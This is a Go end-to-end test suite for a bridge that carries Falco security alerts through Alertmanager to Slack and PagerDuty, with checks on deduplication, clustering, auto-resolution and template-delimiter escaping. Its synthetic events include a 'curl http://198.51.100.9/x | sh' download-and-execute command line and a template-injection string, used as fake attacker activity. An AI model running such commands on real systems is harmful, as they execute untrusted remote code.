// Package e2e runs the whole chain with real parts: Falco events posted over
// HTTP as Falco's http_output posts them, the falco-am-bridge binary, a real
// Alertmanager with the shipped alertmanager.yml (test timings overlaid), and
// a capture server standing in for Slack and PagerDuty.
//
// `make test` installs Alertmanager and sets ALERTMANAGER_BIN; without it the
// tests skip, or fail when E2E_REQUIRED=1.
package e2e

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/prometheus/common/model"

	"github.com/falco-am-bridge/falco-am-bridge/hack/capture/capture"
	"github.com/falco-am-bridge/falco-am-bridge/hack/harness"
	"github.com/falco-am-bridge/falco-am-bridge/pkg/alert"
	"github.com/falco-am-bridge/falco-am-bridge/pkg/falco"
	"github.com/falco-am-bridge/falco-am-bridge/pkg/mapping"
)

const (
	shippedConfig  = "../../alertmanager/alertmanager.yml"
	shippedMapping = "../../mapping/default.yaml"
	sharedEvents   = "../../../shared/falco-events"
	routingKey     = "R0UTINGKEY00000000000000000000000"
	// groupInterval is the overlay's group_interval and group_wait.
	groupInterval = time.Second
)

// stack is one running chain.
type stack struct {
	capture *capture.Server
	ams     []*harness.Alertmanager
	bridge  *harness.Bridge
}

type stackOptions struct {
	alertmanagers int
	clustered     bool
	ttl           string // mapping ttl; "" keeps the shipped 10m
	overrides     string // mapping overrides (a YAML "overrides:" key); "" keeps none
	generatorURL  string // mapping generator_url template; "" keeps none
	args          []string
}

func startStack(ctx context.Context, t *testing.T, o stackOptions) *stack {
	t.Helper()
	amBin := harness.Binary(t, "ALERTMANAGER_BIN")
	bridgeBin := harness.BridgeBinary(t)
	s := &stack{capture: capture.New(nil)}
	if err := s.capture.Start("127.0.0.1:0"); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { _ = s.capture.Close() })

	dir := t.TempDir()
	cfg, err := harness.WriteAlertmanagerOverlay(shippedConfig, dir, harness.AlertmanagerOverlay{
		GroupWait:           groupInterval,
		GroupInterval:       groupInterval,
		RepeatInterval:      time.Hour,
		SlackAPIURL:         s.capture.URL() + "/slack/services/T000/B000/XXXX",
		PagerDutyRoutingKey: routingKey,
		PagerDutyURL:        s.capture.URL() + "/pagerduty/v2/enqueue",
	})
	if err != nil {
		t.Fatal(err)
	}
	n := max(o.alertmanagers, 1)
	var clusterAddrs []string
	if o.clustered {
		for range n {
			a, err := harness.FreeAddr()
			if err != nil {
				t.Fatal(err)
			}
			clusterAddrs = append(clusterAddrs, a)
		}
	}
	var urls []string
	for i := range n {
		opts := harness.AlertmanagerOptions{Bin: amBin, ConfigFile: cfg, DataDir: dir, LogLevel: "debug"}
		if o.clustered {
			opts.ClusterAddr = clusterAddrs[i]
			for j, p := range clusterAddrs {
				if j != i {
					opts.Peers = append(opts.Peers, p)
				}
			}
		}
		am := harness.StartAlertmanager(ctx, t, opts)
		s.ams = append(s.ams, am)
		urls = append(urls, am.URL)
	}

	mappingFile := ""
	if o.ttl != "" || o.overrides != "" || o.generatorURL != "" {
		mappingFile = filepath.Join(dir, "mapping.yaml")
		if err := harness.WriteMappingOverlay(shippedMapping, mappingFile, harness.MappingOverlay{TTL: o.ttl, Overrides: o.overrides, GeneratorURL: o.generatorURL}); err != nil {
			t.Fatal(err)
		}
	}
	s.bridge = harness.StartBridge(ctx, t, harness.BridgeOptions{
		Bin: bridgeBin, Alertmanagers: urls, MappingFile: mappingFile,
		Args: append([]string{"--alertmanager.max-backoff=1s"}, o.args...),
	})
	return s
}

// falcoClient posts like Falco's http_output: one JSON object per request,
// application/json, one kept-alive connection.
var falcoClient = &http.Client{Timeout: 10 * time.Second}

func (s *stack) send(t *testing.T, events ...[]byte) {
	t.Helper()
	for _, ev := range events {
		resp, err := falcoClient.Post(s.bridge.URL+"/", "application/json", bytes.NewReader(ev))
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if resp.StatusCode != http.StatusAccepted {
			t.Fatalf("bridge answered %d: %s", resp.StatusCode, body)
		}
	}
}

// waitCount waits until at least n notifications of kind arrived.
func (s *stack) waitCount(ctx context.Context, t *testing.T, kind string, n int) []capture.Record {
	t.Helper()
	recs, err := s.capture.Wait(ctx, kind, func(r []capture.Record) bool { return len(r) >= n })
	if err != nil {
		t.Fatalf("%v: got %d %s notifications, want %d\n%s", err, len(recs), kind, n, bodies(recs))
	}
	return recs
}

func bodies(recs []capture.Record) string {
	var b strings.Builder
	for _, r := range recs {
		b.Write(r.Body)
		b.WriteByte('\n')
	}
	return b.String()
}

// readEvents returns the lines of a file of ../shared/falco-events, by
// line number from 1, skipping the test when the folder is absent.
func readEvents(t *testing.T, name string) map[int][]byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(sharedEvents, name))
	if os.IsNotExist(err) {
		t.Skipf("%s not found: ../shared/falco-events lives beside the repository", name)
	}
	if err != nil {
		t.Fatal(err)
	}
	out := map[int][]byte{}
	for i, line := range bytes.Split(bytes.TrimSpace(data), []byte("\n")) {
		out[i+1] = line
	}
	return out
}

func seedExample(t *testing.T) []byte {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(sharedEvents, "seed-example.json"))
	if os.IsNotExist(err) {
		t.Skip("seed-example.json not found: ../shared/falco-events lives beside the repository")
	}
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// expected maps an event with the shipped mapping, as the bridge will.
func expected(t *testing.T, event []byte) *alert.Alert {
	t.Helper()
	m, err := mapping.Default()
	if err != nil {
		t.Fatal(err)
	}
	evs, errs := falco.Decode(event)
	if len(errs) > 0 || len(evs) != 1 {
		t.Fatalf("test event does not decode: %v", errs)
	}
	res := m.Map(&evs[0], time.Now())
	if res.Alert == nil {
		t.Fatalf("test event dropped: %s", res.Dropped)
	}
	return res.Alert
}

// where is the "where" part of the shipped templates' titles.
func where(a *alert.Alert) string {
	l := func(k string) string { return string(a.Labels[alertmanagerLabel(k)]) }
	var parts []string
	if p := l("pod_name"); p != "" {
		if ns := l("namespace"); ns != "" {
			p = ns + "/" + p
		}
		parts = append(parts, "pod "+p)
	} else if ns := l("namespace"); ns != "" {
		parts = append(parts, "namespace "+ns)
	}
	if c := l("container_name"); c != "" {
		parts = append(parts, "container "+c)
	}
	if h := l("hostname"); h != "" {
		parts = append(parts, "host "+h)
	}
	return strings.Join(parts, ", ")
}

func slackEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;").Replace(s)
}

// findSlack returns the Slack message about the alert's rule and place.
func findSlack(t *testing.T, recs []capture.Record, a *alert.Alert) (capture.SlackMessage, bool) {
	t.Helper()
	title := slackEscape(string(a.Labels["falco_rule"]))
	if w := where(a); w != "" {
		title += ": " + slackEscape(w)
	}
	for _, r := range recs {
		m, err := r.Slack()
		if err != nil {
			t.Fatal(err)
		}
		if strings.HasSuffix(m.Title(), "] "+title) {
			return m, true
		}
	}
	return capture.SlackMessage{}, false
}

func findPagerDuty(t *testing.T, recs []capture.Record, a *alert.Alert) (capture.PagerDutyEvent, bool) {
	t.Helper()
	for _, r := range recs {
		ev, err := r.PagerDuty()
		if err != nil {
			t.Fatal(err)
		}
		if rule, _ := ev.Detail("falco_rule"); rule == string(a.Labels["falco_rule"]) && ev.Payload.Class == rule &&
			strings.HasPrefix(ev.Payload.Summary, rule) && strings.Contains(ev.Payload.Summary, where(a)) {
			return ev, true
		}
	}
	return capture.PagerDutyEvent{}, false
}

// checkSlack asserts that the message shows what a responder needs.
func checkSlack(t *testing.T, m capture.SlackMessage, a *alert.Alert) {
	t.Helper()
	text := m.Title() + "\n" + m.Text()
	for _, k := range []string{"falco_rule", "container_name", "pod_name", "namespace"} {
		if v := a.Labels[alertmanagerLabel(k)]; v != "" && !strings.Contains(text, slackEscape(string(v))) {
			t.Errorf("Slack message lacks %s %q:\n%s", k, v, text)
		}
	}
	for _, k := range []string{"summary", "description", "command"} {
		if v := a.Annotations[alertmanagerLabel(k)]; v != "" && !strings.Contains(text, slackEscape(string(v))) {
			t.Errorf("Slack message lacks %s %q:\n%s", k, v, text)
		}
	}
}

// checkPagerDuty asserts the incident's summary, severity and details.
func checkPagerDuty(t *testing.T, ev capture.PagerDutyEvent, a *alert.Alert) {
	t.Helper()
	if ev.EventAction != "trigger" || ev.RoutingKey != routingKey || ev.Payload.Severity != string(a.Labels["severity"]) {
		t.Errorf("PagerDuty event %s key %q severity %q", ev.EventAction, ev.RoutingKey, ev.Payload.Severity)
	}
	if want := string(a.Labels["falco_rule"]) + ": " + where(a); ev.Payload.Summary != want {
		t.Errorf("PagerDuty summary %q, want %q", ev.Payload.Summary, want)
	}
	for detail, source := range map[string]string{
		"falco_rule": "label:falco_rule", "container": "label:container_name", "pod": "label:pod_name",
		"namespace": "label:namespace", "summary": "annotation:summary", "description": "annotation:description",
		"command": "annotation:command",
	} {
		kind, key, _ := strings.Cut(source, ":")
		want := string(a.Annotations[alertmanagerLabel(key)])
		if kind == "label" {
			want = string(a.Labels[alertmanagerLabel(key)])
		}
		got, ok := ev.Detail(detail)
		if want == "" {
			continue
		}
		if !ok || got != want {
			t.Errorf("PagerDuty custom_details[%q] = %q, want %q", detail, got, want)
		}
	}
}

// TestRealEventsReachSlackAndPagerDuty sends the seed example and real Falco
// alerts of several kinds and reads what Slack and PagerDuty received.
func TestRealEventsReachSlackAndPagerDuty(t *testing.T) {
	t.Parallel()
	real := readEvents(t, "real-events.jsonl")
	seed := seedExample(t)
	events := []struct {
		name  string
		event []byte
		page  bool
	}{
		{"seed example (nested shape, warning)", seed, false},
		{"syscall with pod and command (critical)", real[1], true},
		{"syscall with container (critical)", real[30], true},
		{"k8s_audit (notice)", real[4], false},
		{"plugin source aws_cloudtrail (warning)", real[41], false},
		{"2017 event without output_fields (warning)", real[37], false},
	}
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	s := startStack(ctx, t, stackOptions{})
	pages := 0
	for _, e := range events {
		s.send(t, e.event)
		if e.page {
			pages++
		}
	}
	slack := s.waitCount(ctx, t, capture.KindSlack, len(events))
	pd := s.waitCount(ctx, t, capture.KindPagerDuty, pages)
	for _, e := range events {
		t.Run(e.name, func(t *testing.T) {
			a := expected(t, e.event)
			m, ok := findSlack(t, slack, a)
			if !ok {
				t.Fatalf("no Slack message for %s:\n%s", a.Labels, bodies(slack))
			}
			checkSlack(t, m, a)
			ev, paged := findPagerDuty(t, pd, a)
			if paged != e.page {
				t.Fatalf("reached PagerDuty: %v, want %v (severity %s)", paged, e.page, a.Labels["severity"])
			}
			if paged {
				checkPagerDuty(t, ev, a)
			}
		})
	}
	t.Run("seed example shows container and pod", func(t *testing.T) {
		m, _ := findSlack(t, slack, expected(t, seed))
		if !strings.Contains(m.Title()+m.Text(), "my-app-container") || !strings.Contains(m.Title()+m.Text(), "my-app-pod-xyz") {
			t.Fatalf("Slack message: %s\n%s", m.Title(), m.Text())
		}
	})
	// Nothing more arrives: each event is one group, notified once.
	time.Sleep(3 * groupInterval)
	if n, p := len(s.capture.Records(capture.KindSlack)), len(s.capture.Records(capture.KindPagerDuty)); n != len(events) || p != pages {
		t.Fatalf("got %d Slack and %d PagerDuty notifications, want %d and %d", n, p, len(events), pages)
	}
}

// criticalEvent is a Falco 0.41-style syscall alert on a pod.
func criticalEvent(pod, cmdline string, when time.Time) []byte {
	ev := map[string]any{
		"hostname": "node-7",
		"output":   when.Format("15:04:05.000000000") + ": Critical A shell was spawned in a container with an attached terminal (command=" + cmdline + ")",
		"priority": "Critical",
		"rule":     "Terminal shell in container",
		"source":   "syscall",
		"tags":     []string{"container", "mitre_execution", "shell"},
		"time":     when.UTC().Format(time.RFC3339Nano),
		"output_fields": map[string]any{
			"container.id": "5b1c2d3e4f60", "container.name": "api", "container.image.repository": "registry.example.com/api",
			"k8s.ns.name": "payments", "k8s.pod.name": pod, "proc.cmdline": cmdline, "proc.name": "bash",
			"evt.time": when.UnixNano(), "user.name": "root",
		},
	}
	b, _ := json.Marshal(ev)
	return b
}

// TestStormIsOneNotification fires one rule 50 times on one pod: Slack and
// PagerDuty each hear of it once.
func TestStormIsOneNotification(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	s := startStack(ctx, t, stackOptions{})
	now := time.Now()
	for i := range 50 {
		s.send(t, criticalEvent("api-0", fmt.Sprintf("bash -c 'curl http://198.51.100.9/x%d | sh'", i), now.Add(time.Duration(i)*time.Millisecond)))
	}
	s.waitCount(ctx, t, capture.KindSlack, 1)
	s.waitCount(ctx, t, capture.KindPagerDuty, 1)
	time.Sleep(3 * groupInterval)
	if n, p := len(s.capture.Records(capture.KindSlack)), len(s.capture.Records(capture.KindPagerDuty)); n != 1 || p != 1 {
		t.Fatalf("50 events of one rule on one pod gave %d Slack and %d PagerDuty notifications, want 1 and 1\n%s",
			n, p, bodies(s.capture.Records("")))
	}
}

// TestTemplateDelimitersInCommand: an attacker's command line holding
// template actions must not stop its own alert from being notified.
func TestTemplateDelimitersInCommand(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	s := startStack(ctx, t, stackOptions{})
	ev := criticalEvent("evil-0", `sh -c 'echo {{ id }} {{ template "x" }} {{ .Alerts }}'`, time.Now())
	s.send(t, ev)
	slack := s.waitCount(ctx, t, capture.KindSlack, 1)
	pd := s.waitCount(ctx, t, capture.KindPagerDuty, 1)
	a := expected(t, ev)
	if cmd := string(a.Annotations["command"]); cmd != `sh -c 'echo { { id } } { { template "x" } } { { .Alerts } }'` {
		t.Fatalf("the bridge did not neutralise the delimiters: %q", cmd)
	}
	m, ok := findSlack(t, slack, a)
	if !ok {
		t.Fatalf("no Slack message:\n%s", bodies(slack))
	}
	checkSlack(t, m, a)
	pev, ok := findPagerDuty(t, pd, a)
	if !ok {
		t.Fatalf("no PagerDuty event:\n%s", bodies(pd))
	}
	checkPagerDuty(t, pev, a)
}

// TestAlertResolvesByItself: no event after the first, and the alert
// resolves when its TTL runs out; Slack and PagerDuty hear of it.
func TestAlertResolvesByItself(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(t.Context(), 60*time.Second)
	defer cancel()
	s := startStack(ctx, t, stackOptions{ttl: "4s"})
	ev := criticalEvent("api-1", "bash -il", time.Now())
	s.send(t, ev)
	sent := time.Now()
	s.waitCount(ctx, t, capture.KindSlack, 1)
	s.waitCount(ctx, t, capture.KindPagerDuty, 1)

	slack := s.waitCount(ctx, t, capture.KindSlack, 2)
	pd := s.waitCount(ctx, t, capture.KindPagerDuty, 2)
	if d := time.Since(sent); d < 4*time.Second {
		t.Errorf("resolved after %v, before the 4s TTL", d)
	}
	m, err := slack[1].Slack()
	if err != nil {
		t.Fatal(err)
	}
	if !strings.HasPrefix(m.Title(), "[RESOLVED] Terminal shell in container") || m.Attachments[0].Color != "good" {
		t.Errorf("second Slack message is not the resolution: %q %q", m.Title(), m.Attachments[0].Color)
	}
	first, _ := pd[0].PagerDuty()
	second, _ := pd[1].PagerDuty()
	if second.EventAction != "resolve" || second.DedupKey != first.DedupKey {
		t.Errorf("second PagerDuty event: %s %s, first had dedup_key %s", second.EventAction, second.DedupKey, first.DedupKey)
	}
}

// TestClusteredAlertmanagersNotifyOnce: the bridge sends to both
// Alertmanagers of a gossiping pair; each group is notified once.
func TestClusteredAlertmanagersNotifyOnce(t *testing.T) {
	t.Parallel()
	ctx, cancel := context.WithTimeout(t.Context(), 90*time.Second)
	defer cancel()
	s := startStack(ctx, t, stackOptions{alertmanagers: 2, clustered: true})
	waitClusterReady(ctx, t, s.ams)
	pods := []string{"api-0", "api-1", "api-2"}
	for _, p := range pods {
		s.send(t, criticalEvent(p, "bash -il", time.Now()))
	}
	s.waitCount(ctx, t, capture.KindSlack, len(pods))
	s.waitCount(ctx, t, capture.KindPagerDuty, len(pods))
	for i, am := range s.ams {
		if n := alertCount(ctx, t, am.URL); n != len(pods) {
			t.Errorf("Alertmanager %d holds %d alerts, want %d: the bridge must send to every member", i+1, n, len(pods))
		}
	}
	// The second member waits peer_timeout (3s) before it notifies, then
	// finds the first one's notification log entry.
	time.Sleep(6 * time.Second)
	slack := s.capture.Records(capture.KindSlack)
	if len(slack) != len(pods) || len(s.capture.Records(capture.KindPagerDuty)) != len(pods) {
		t.Fatalf("%d groups gave %d Slack and %d PagerDuty notifications, want one each\n%s",
			len(pods), len(slack), len(s.capture.Records(capture.KindPagerDuty)), bodies(slack))
	}
}

// waitClusterReady waits until every member sees the others.
func waitClusterReady(ctx context.Context, t *testing.T, ams []*harness.Alertmanager) {
	t.Helper()
	for _, am := range ams {
		for {
			var status struct {
				Cluster struct {
					Status string `json:"status"`
					Peers  []any  `json:"peers"`
				} `json:"cluster"`
			}
			getJSON(ctx, t, am.URL+"/api/v2/status", &status)
			if status.Cluster.Status == "ready" && len(status.Cluster.Peers) == len(ams) {
				break
			}
			select {
			case <-ctx.Done():
				t.Fatalf("cluster of %d not ready: %+v", len(ams), status.Cluster)
			case <-time.After(100 * time.Millisecond):
			}
		}
	}
}

func alertCount(ctx context.Context, t *testing.T, amURL string) int {
	t.Helper()
	var alerts []json.RawMessage
	getJSON(ctx, t, amURL+"/api/v2/alerts", &alerts)
	return len(alerts)
}

func getJSON(ctx context.Context, t *testing.T, url string, v any) {
	t.Helper()
	req, err := http.NewRequestWithContext(ctx, http.MethodGet, url, nil)
	if err != nil {
		t.Fatal(err)
	}
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	if err := json.NewDecoder(resp.Body).Decode(v); err != nil {
		t.Fatalf("GET %s: %v", url, err)
	}
}

func alertmanagerLabel(s string) model.LabelName { return model.LabelName(s) }
